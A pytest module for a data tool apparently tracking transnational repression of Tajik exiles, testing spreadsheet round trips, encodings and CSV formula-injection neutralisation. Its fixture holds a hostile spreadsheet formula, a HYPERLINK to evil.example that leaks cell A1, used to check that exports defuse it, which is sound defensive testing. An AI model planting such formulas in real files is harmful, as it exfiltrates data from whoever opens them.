"""The normalised tables as CSV (folder or .zip), XLSX and data package: lossless round trips,
formula neutralisation, encodings, and problems reported as FILE:ROW:COLUMN.

This module also renders the table reference of docs/import-export.md from
`exiledb.ingest.tables.TABLES`; `python tests/test_tabular.py` rewrites that section.
"""

from __future__ import annotations

import copy
import datetime as dt
import json
import re
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from exiledb.ingest.tables import TABLES, Column, Table

REPO = Path(__file__).resolve().parent.parent
DEMO = REPO / "src" / "exiledb" / "demo" / "fpc-2017.json"
DOC = REPO / "docs" / "import-export.md"
START, END = "<!-- tables:start -->", "<!-- tables:end -->"
EXPORTED_AT = re.compile(r'^"exported_at": .*\n', re.MULTILINE)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
SUMMARIES = {"minus": "-2+3 was the count", "plus": "+992 93 555 0000", "at": "@SUM(A1:A9)"}

# Everything awkward a spreadsheet might mangle: formula-like text, Cyrillic, dates of every
# precision, coordinates, several children of every kind.
AWKWARD: dict[str, Any] = {
    "format": "exiledb/1",
    "organizations": [
        {
            "id": "org/gknb",
            "name": "State Committee for National Security",
            "abbreviation": "ГКНБ",
            "other_names": ["=GKNB", "Государственный комитет национальной безопасности"],
            "type": "state_agency",
            "country": "TJ",
            "founded": "1991",
            "designations": [{"type": "banned", "by_country": "TJ", "date": "2015-09-29"}],
        }
    ],
    "sources": [
        {
            "id": "src/rferl",
            "type": "news",
            "title": "Радио Озоди: родственники оппозиционера",
            "date": "2016-09",
            "url": "https://rus.ozodi.org/a/28000000.html",
            "language": "ru",
        }
    ],
    "persons": [
        {
            "id": "person/formula",
            "display_name": FORMULA_NAME,
            "names": [{"value": "Ҷамшед Ғуломов", "language": "tg"}],
            "sex": "male",
            "birth_year": 1979,
            "origin_country": "TJ",
            "categories": ["opposition", "religious"],
            "summary": SUMMARIES["minus"],
            "residences": [
                {"country": "PL", "place": "Warszawa", "date_from": "2015-03", "date_to": "2018"},
                {"country": "DE", "date_from": "2018-02-14", "asylum_status": "granted"},
            ],
            "affiliations": [{"organization": "org/gknb", "role": "employee", "date_to": "2014"}],
            "citations": [{"source": "src/rferl", "quote": "«мы не отступим»"}],
        },
        {
            "id": "person/plus",
            "display_name": "Шабнам Худойдодова",
            "summary": SUMMARIES["plus"],
            "origin_country": "TJ",
        },
        {
            "id": "person/at",
            "display_name": "Zarina Sherzamonova",
            "summary": SUMMARIES["at"],
            "origin_country": "TJ",
            "may_be_named": False,
        },
    ],
    "relationships": [
        {
            "id": "rel/sister",
            "person": "person/at",
            "kinship": "sister",
            "other": "person/formula",
            "confidence": "confirmed",
        }
    ],
    "incidents": [
        {
            "id": "incident/warsaw",
            "title": "Threats after the OSCE meeting in Warsaw",
            "summary": 'Line one.\nLine two, with a comma; and a "quote".',
            "date": "2016-09-22",
            "date_end": "2016-10",
            "country": "PL",
            "place": "Warszawa",
            "place_precision": "exact",
            "latitude": 52.229676,
            "longitude": 21.012229,
            "origin_country": "TJ",
            "tactics": ["threat", "surveillance", "hacking"],
            "stage": 1,
            "trigger_event": "OSCE HDIM, Warsaw",
            "trigger_date": "2016",
            "victims_estimated": 3,
            "perpetrators": ["org/gknb"],
            "involvements": [
                {"person": "person/formula", "role": "target"},
                {"person": None, "role": "witness", "description": "=a neighbour"},
            ],
            "citations": [{"source": "src/rferl", "locator": "para 4"}],
            "review_status": "published",
            "confidence": "confirmed",
        },
        {
            "id": "incident/kulob",
            "title": "Sister detained in Kulob",
            "date": "2016",
            "country": "TJ",
            "region": "Khatlon",
            "place_precision": "region",
            "origin_country": "TJ",
            "proxy": True,
            "tactics": ["proxy_detention"],
            "involvements": [
                {
                    "person": "person/at",
                    "role": "relative_targeted",
                    "linked_exile": "person/formula",
                }
            ],
        },
    ],
}

# (format, file name): every tabular way out and back in.
TABULAR = [
    ("csv", "tables"),
    ("csv", "tables.zip"),
    ("xlsx", "tables.xlsx"),
    ("datapackage", "package"),
    ("datapackage", "package.zip"),
]


# --- the generated table reference -----------------------------------------------------------


def _values(col: Column) -> str:
    if col.vocab is not None:
        return f"code from `{col.vocab.name}`"
    if col.country:
        return "ISO 3166-1 alpha-2 code"
    if col.partial_date:
        return "partial date (`YYYY`, `YYYY-MM`, `YYYY-MM-DD`)"
    if col.ref:
        return f"id of a row in `{col.ref}`"
    return {
        "boolean": "`true` / `false`",
        "integer": "whole number",
        "number": "decimal number",
    }.get(col.type, "text")


def _notes(table: Table, col: Column) -> str:
    notes = []
    if col.name in table.primary_key:
        notes.append("primary key" if len(table.primary_key) == 1 else "part of the key")
    if col.required and not (table.name == "citations" and col.key == ""):
        notes.append("required")
    if col.derived:
        notes.append("written on export, ignored on import")
    if col.description:
        notes.append(col.description)
    return "; ".join(notes)


def render_tables() -> str:
    """The table reference of docs/import-export.md, from `exiledb.ingest.tables.TABLES`."""
    out = [
        START,
        "<!-- Generated from exiledb.ingest.tables.TABLES by tests/test_tabular.py: run",
        "     `python tests/test_tabular.py` to refresh it. Do not edit by hand. -->",
        "",
    ]
    for table in TABLES:
        out.append(f"### `{table.name}`")
        out.append("")
        what = f"{table.title}."
        if table.name == "citations":
            what += (
                " Each row names exactly one of `incident_id`, `person_id`, `relationship_id`"
                " and `organization_id`: the record the source supports."
            )
        elif table.child:
            what += f" Child rows of `{table.kind}` (the `{table.child}` list of a record)."
        else:
            what += f" One row per record of `{table.kind}`."
        out.append(textwrap.fill(what, width=100))
        out.append("")
        out.append("| column | values | notes |")
        out.append("|---|---|---|")
        for col in table.columns:
            out.append(f"| `{col.name}` | {_values(col)} | {_notes(table, col)} |")
        out.append("")
    out += _views()
    out.append(END)
    return "\n".join(out)


def _views() -> list[str]:
    """The tables exports add for readers, which imports skip."""
    from exiledb.ingest import export

    out = [
        "### `incidents_flat` (exports only)",
        "",
        textwrap.fill(
            "One row per incident for spreadsheet users, in the CSV, XLSX and data-package"
            " exports. Several values in one cell are joined by `; `; people are shown by the"
            " name the audience may see. Imports skip this table.",
            width=100,
        ),
        "",
        "| column | values |",
        "|---|---|",
    ]
    kinds = {"integer": "whole number", "boolean": "`true` / `false`", "string": "text"}
    for name in export.FLAT_COLUMNS:
        out.append(f"| `{name}` | {kinds[export._flat_type(name)]} |")
    out += [
        "",
        "### `codebook` (exports only)",
        "",
        "Every code of every vocabulary, so that a download explains itself. Imports skip it.",
        "",
        "| column |",
        "|---|",
        *[f"| `{name}` |" for name in export.CODEBOOK_HEADER],
        "",
    ]
    return out


def documented_tables() -> str:
    text = DOC.read_text(encoding="utf-8")
    start, end = text.find(START), text.find(END)
    assert start >= 0 and end > start, f"{DOC.name} lacks the {START} ... {END} markers"
    return text[start : end + len(END)]


def test_the_table_reference_in_the_docs_is_up_to_date():
    assert documented_tables() == render_tables(), (
        "docs/import-export.md is stale: run `python tests/test_tabular.py` to regenerate it"
    )


def test_the_table_reference_names_every_table_and_column():
    text = render_tables()
    for table in TABLES:
        assert f"### `{table.name}`" in text
        for col in table.columns:
            assert f"| `{col.name}` |" in text


# Everything below needs the database.


def wipe() -> None:
    from django.apps import apps
    from django.core.management.color import no_style
    from django.db import connection

    tables = [model._meta.db_table for model in apps.get_app_config("cases").get_models()]
    connection.check_constraints()  # PostgreSQL will not truncate with checks pending
    connection.ops.execute_sql_flush(
        connection.ops.sql_flush(no_style(), tables, allow_cascade=True)
    )


def load(path: Path | str, fmt: str = "auto") -> Any:
    from exiledb.ingest import registry, writer

    return writer.apply(registry.read(path, fmt))


def load_doc(doc: dict[str, Any]) -> Any:
    from exiledb.ingest import interchange, writer

    return writer.apply(interchange.parse_document(copy.deepcopy(doc), "doc.json"))


def json_export(path: Path) -> str:
    from exiledb.ingest import export

    export.export("json", "internal", path)
    return EXPORTED_AT.sub("", path.read_text(encoding="utf-8"))


def problems(path: Path | str, fmt: str = "auto") -> list[str]:
    from exiledb.ingest.base import ImportFailed

    with pytest.raises(ImportFailed) as exc:
        load(path, fmt)
    return [str(p) for p in exc.value.problems]


def stored(kind: str) -> int:
    from exiledb.ingest import serialize

    return serialize.MODELS[kind].objects.count()


def person(readable: str) -> Any:
    from exiledb.cases.models import Person
    from exiledb.ingest.base import record_uuid

    return Person.objects.get(pk=record_uuid("persons", readable))


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(("fmt", "name"), TABULAR)
def test_every_tabular_format_round_trips_losslessly(tmp_path, fmt, name):
    from exiledb.ingest import export

    load(DEMO)
    load_doc(AWKWARD)
    before = json_export(tmp_path / "before.json")
    export.export(fmt, "internal", tmp_path / name)
    wipe()
    summary = load(tmp_path / name)
    assert summary.created["incidents"] == len(json.loads(before)["incidents"])
    assert json_export(tmp_path / "after.json") == before


@pytest.mark.django_db
@pytest.mark.parametrize(("fmt", "name"), TABULAR)
def test_reimporting_a_tabular_export_changes_nothing(tmp_path, fmt, name):
    from exiledb.ingest import export

    load_doc(AWKWARD)
    export.export(fmt, "internal", tmp_path / name)
    assert load(tmp_path / name).changed == 0


@pytest.mark.django_db
@pytest.mark.parametrize(("fmt", "name"), TABULAR)
def test_a_value_that_starts_with_an_apostrophe_survives_the_round_trip(tmp_path, fmt, name):
    """Known bug: `tables.unneutralise` strips the apostrophe of "'=..." even when the export
    did not add it (neutralise leaves "'=x" alone, and data packages are not neutralised)."""
    from exiledb.ingest import export

    doc = copy.deepcopy(AWKWARD)
    doc["persons"][1]["summary"] = "'=already quoted"
    load_doc(doc)
    export.export(fmt, "internal", tmp_path / name)
    wipe()
    load(tmp_path / name)
    assert person("person/plus").summary == "'=already quoted"


@pytest.mark.django_db
def test_a_carriage_return_survives_the_xlsx_round_trip(tmp_path):
    """Known bug: XML turns "\\r\\n" into "\\n", so XLSX loses the carriage returns that
    text typed on Windows (or pasted into the editor) carries, while CSV and JSON keep them."""
    from exiledb.ingest import export

    doc = copy.deepcopy(AWKWARD)
    doc["persons"][1]["summary"] = "line one\r\nline two"
    load_doc(doc)
    before = json_export(tmp_path / "before.json")
    export.export("xlsx", "internal", tmp_path / "out.xlsx")
    wipe()
    load(tmp_path / "out.xlsx")
    assert json_export(tmp_path / "after.json") == before


@pytest.mark.django_db
def test_text_with_a_control_character_is_refused_with_its_field(tmp_path):
    """Text pasted from Word can carry a vertical tab (U+000B), which XLSX cannot hold and
    PostgreSQL refuses in some forms: the import names the field and refuses it."""
    from exiledb.ingest.base import ImportFailed

    doc = copy.deepcopy(AWKWARD)
    doc["persons"][1]["summary"] = "pasted from Word\x0bwith a vertical tab"
    with pytest.raises(ImportFailed) as exc:
        load_doc(doc)
    assert any("summary" in str(p) and "U+000B" in str(p) for p in exc.value.problems)


# --- formula neutralisation and encodings -----------------------------------------------------


def read_csv(path: Path) -> Any:
    import pandas as pd

    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def by_id(frame: Any, readable: str, kind: str = "persons") -> Any:
    from exiledb.ingest.base import record_uuid

    rows = frame[frame["id"] == str(record_uuid(kind, readable))]
    assert len(rows) == 1
    return rows.iloc[0]


@pytest.mark.django_db
def test_the_csv_export_neutralises_formulas_and_the_import_restores_them(tmp_path):
    from exiledb.ingest import export

    load_doc(AWKWARD)
    export.export("csv", "internal", tmp_path / "csv")
    persons = read_csv(tmp_path / "csv" / "persons.csv")
    assert by_id(persons, "person/formula")["display_name"] == "'" + FORMULA_NAME
    assert by_id(persons, "person/formula")["summary"] == "'" + SUMMARIES["minus"]
    assert by_id(persons, "person/plus")["summary"] == "'" + SUMMARIES["plus"]
    assert by_id(persons, "person/at")["summary"] == "'" + SUMMARIES["at"]
    names = read_csv(tmp_path / "csv" / "names.csv")
    assert "'" + FORMULA_NAME in set(names["value"])
    flat = read_csv(tmp_path / "csv" / "incidents_flat.csv")
    assert by_id(flat, "incident/warsaw", "incidents")["targets"] == "'" + FORMULA_NAME
    for frame in (persons, names, flat):
        cells = frame.to_numpy().ravel()
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    wipe()
    load(tmp_path / "csv")
    assert person("person/formula").display_name == FORMULA_NAME
    assert person("person/formula").summary == SUMMARIES["minus"]
    assert person("person/at").summary == SUMMARIES["at"]


@pytest.mark.django_db
def test_the_xlsx_export_writes_formula_text_as_neutralised_strings(tmp_path):
    from openpyxl import load_workbook

    from exiledb.ingest import export
    from exiledb.ingest.base import record_uuid

    load_doc(AWKWARD)
    export.export("xlsx", "internal", tmp_path / "out.xlsx")
    wb = load_workbook(tmp_path / "out.xlsx")  # not data_only: a formula would show as one
    ws = wb["persons"]
    header = [c.value for c in ws[1]]
    rows = {r[0].value: dict(zip(header, r, strict=False)) for r in ws.iter_rows(min_row=2)}
    row = rows[str(record_uuid("persons", "person/formula"))]
    cell = row["display_name"]
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA_NAME
    assert row["summary"].value == "'" + SUMMARIES["minus"]
    for sheet in wb.worksheets:
        for line in sheet.iter_rows():
            for c in line:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula"
    wb.close()
    wipe()
    load(tmp_path / "out.xlsx")
    assert person("person/formula").display_name == FORMULA_NAME
    assert person("person/plus").summary == SUMMARIES["plus"]


@pytest.mark.django_db
def test_the_csv_export_is_utf8_with_a_bom_and_keeps_cyrillic(tmp_path):
    from exiledb.ingest import export

    load_doc(AWKWARD)
    export.export("csv", "internal", tmp_path / "csv")
    for path in (tmp_path / "csv").glob("*.csv"):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path.name
    persons = read_csv(tmp_path / "csv" / "persons.csv")
    assert list(persons.columns)[0] == "id"  # the BOM is not part of the first header
    assert by_id(persons, "person/plus")["display_name"] == "Шабнам Худойдодова"
    names = read_csv(tmp_path / "csv" / "names.csv")
    assert "Ҷамшед Ғуломов" in set(names["value"])
    orgs = read_csv(tmp_path / "csv" / "organizations.csv")
    assert set(orgs["abbreviation"]) == {"ГКНБ"}


@pytest.mark.django_db
def test_the_data_package_csvs_are_plain_utf8_with_values_as_stored(tmp_path):
    from exiledb.ingest import export

    load_doc(AWKWARD)
    export.export("datapackage", "internal", tmp_path / "pkg")
    data = (tmp_path / "pkg" / "data" / "persons.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    persons = read_csv(tmp_path / "pkg" / "data" / "persons.csv")
    assert by_id(persons, "person/formula")["display_name"] == FORMULA_NAME


# --- problems, located ------------------------------------------------------------------------


def write_tables(folder: Path, tables: dict[str, str], encoding: str = "utf-8") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in tables.items():
        (folder / f"{name}.csv").write_bytes(text.encode(encoding))
    return folder


BROKEN = {
    "persons": "id,display_name\r\nperson/a,Alim Sherzamonov\r\n",
    "incidents": "id,title,date,country,origin_country\r\n"
    "incident/x,Threatened in Moscow,2016-02-30,RU,TJ\r\n",
    "incident_tactics": "incident_id,tactic\r\nincident/x,threat\r\n",
    "involvements": "incident_id,person_id,role\r\nincident/x,person/nobody,target\r\n",
}


def test_the_command_reports_every_problem_as_file_row_column_and_stores_nothing(cli, tmp_path):
    folder = write_tables(tmp_path / "broken", BROKEN)
    result = cli("import", str(folder))
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert any(line.startswith("incidents.csv:2:date: '2016-02-30'") for line in lines), lines
    assert any(
        line.startswith("involvements.csv:2:person_id: dangling reference") for line in lines
    ), lines
    assert "2 problem(s)" in result.stderr and "nothing was stored" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert json.loads(cli("stats", "--json").stdout)["incidents"]["total"] == 0


@pytest.mark.django_db
def test_a_fixed_folder_imports(tmp_path):
    fixed = dict(BROKEN)
    fixed["incidents"] = fixed["incidents"].replace("2016-02-30", "2016-02-29")
    fixed["involvements"] = fixed["involvements"].replace("person/nobody", "person/a")
    summary = load(write_tables(tmp_path / "fixed", fixed))
    assert summary.created["incidents"] == summary.created["persons"] == 1


def truncated(tmp_path: Path, where: str) -> Path:
    """The demo cut off inside a string (most bytes are) or between two values."""
    text = DEMO.read_text(encoding="utf-8")
    cut = text.index('"title"', len(text) // 2) + 20 if where == "string" else text.index("],")
    path = tmp_path / "cut.json"
    path.write_text(text[:cut], encoding="utf-8")
    return path


@pytest.mark.django_db
@pytest.mark.parametrize("where", ["string", "between-values"])
def test_a_truncated_json_file_fails_with_its_position_and_stores_nothing(tmp_path, where):
    found = problems(truncated(tmp_path, where))
    assert len(found) == 1
    assert re.match(r"^.*cut\.json:\d+:\d+: invalid JSON: ", found[0]), found
    assert stored("incidents") == stored("persons") == 0


@pytest.mark.django_db
@pytest.mark.parametrize("where", ["string", "between-values"])
def test_a_truncated_json_file_is_said_to_look_truncated(tmp_path, where):
    """Known bug for "string": `interchange.read` gives the hint only when the parser stops at
    the very end, but an unterminated string is reported where the string starts."""
    found = problems(truncated(tmp_path, where))
    assert found[0].endswith("(the file looks truncated)"), found


@pytest.mark.django_db
def test_a_cp1251_csv_is_refused_with_a_clear_message(tmp_path):
    folder = write_tables(
        tmp_path / "cp1251",
        {"persons": "id,display_name\r\nperson/a,Шабнам Худойдодова\r\n"},
        "cp1251",
    )
    found = problems(folder)
    assert len(found) == 1
    assert found[0].startswith("persons.csv:byte ")
    assert "not UTF-8" in found[0] and "CSV UTF-8" in found[0]
    assert stored("persons") == 0


@pytest.mark.django_db
def test_a_missing_required_column_and_an_unknown_column_are_named(tmp_path):
    folder = write_tables(
        tmp_path / "cols",
        {
            "persons": "id,nickname\r\nperson/a,Alim\r\n",
            "sources": "id,type,title,colour\r\nsrc/a,news,A report,blue\r\n",
        },
    )
    found = problems(folder)
    assert "persons.csv:1:display_name: missing required column" in found
    assert any(p.startswith("persons.csv:1:nickname: unknown column (expected id, ") for p in found)
    assert any(p.startswith("sources.csv:1:colour: unknown column") for p in found)
    assert stored("persons") == stored("sources") == 0


@pytest.mark.django_db
def test_an_unknown_table_is_named_with_the_tables_expected(tmp_path):
    folder = write_tables(tmp_path / "odd", {"people": "id,display_name\r\nperson/a,Alim\r\n"})
    found = problems(folder)
    assert len(found) == 1 and found[0].startswith("people.csv: 'people' is not a table")


@pytest.mark.django_db
def test_a_month_that_excel_turned_into_a_date_cell_keeps_month_precision(tmp_path):
    from openpyxl import load_workbook

    from exiledb.cases.models import Incident
    from exiledb.ingest import export
    from exiledb.ingest.base import record_uuid

    load_doc(AWKWARD)
    export.export("xlsx", "internal", tmp_path / "out.xlsx")
    wb = load_workbook(tmp_path / "out.xlsx")
    ws = wb["incidents"]
    header = [c.value for c in ws[1]]
    target = str(record_uuid("incidents", "incident/warsaw"))
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == target)
    cell = row[header.index("date")]
    cell.value = dt.datetime(2016, 9, 1)  # what Excel stores when "2016-09" is typed
    cell.number_format = "mmm-yy"
    wb.save(tmp_path / "edited.xlsx")
    wipe()
    load(tmp_path / "edited.xlsx")
    incident = Incident.objects.get(pk=target)
    assert incident.date == "2016-09"
    assert incident.date_precision == "month"


# --- choosing the reader ----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("doc.json", "json"),
        ("tables", "csv"),
        ("tables.zip", "csv"),
        ("book.xlsx", "xlsx"),
        ("package", "datapackage"),
        ("package.zip", "datapackage"),
        ("package/datapackage.json", "datapackage"),
        ("persons.csv", "csv"),
    ],
)
def test_auto_picks_the_reader_from_the_name_and_content(tmp_path, name, expected):
    from exiledb.ingest import export, registry, writer

    load_doc(AWKWARD)
    if name == "persons.csv":
        export.export("csv", "internal", tmp_path / "tables")
        path = tmp_path / "tables" / name
    elif name.startswith("package"):
        export.export("datapackage", "internal", tmp_path / name.split("/")[0])
        path = tmp_path / name
    else:
        export.export(
            {"json": "json", "zip": "csv", "xlsx": "xlsx"}.get(name.rsplit(".", 1)[-1], "csv"),
            "internal",
            tmp_path / name,
        )
        path = tmp_path / name
    assert registry.detect(path) == expected
    if name != "persons.csv":  # one table alone is the next test's subject
        assert writer.apply(registry.read(path), dry_run=True).changed == 0


@pytest.mark.django_db
def test_importing_one_table_alone_keeps_the_rows_of_the_other_tables(tmp_path):
    """Known bug: persons.csv imported on its own (say, after fixing display names in Excel)
    is assembled with empty names, categories, residences, affiliations and citations, and
    the writer replaces the stored ones: every other spelling of every name is deleted."""
    from exiledb.ingest import export

    load_doc(AWKWARD)
    before = json_export(tmp_path / "before.json")
    export.export("csv", "internal", tmp_path / "tables")
    summary = load(tmp_path / "tables" / "persons.csv")
    assert summary.changed == 0
    assert json_export(tmp_path / "after.json") == before


def test_an_unknown_extension_asks_for_format(tmp_path):
    from exiledb.ingest import registry
    from exiledb.ingest.base import ImportFailed

    path = tmp_path / "notes.txt"
    path.write_text("hello", encoding="utf-8")
    with pytest.raises(ImportFailed) as exc:
        registry.detect(path)
    assert "use --format" in str(exc.value.problems[0])


if __name__ == "__main__":
    # Refresh the generated section of docs/import-export.md.
    import os

    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "exiledb.settings")
    django.setup()
    text = DOC.read_text(encoding="utf-8")
    current = documented_tables()
    DOC.write_text(text.replace(current, render_tables()), encoding="utf-8")
    print(f"updated {DOC.relative_to(REPO)}", file=sys.stderr)
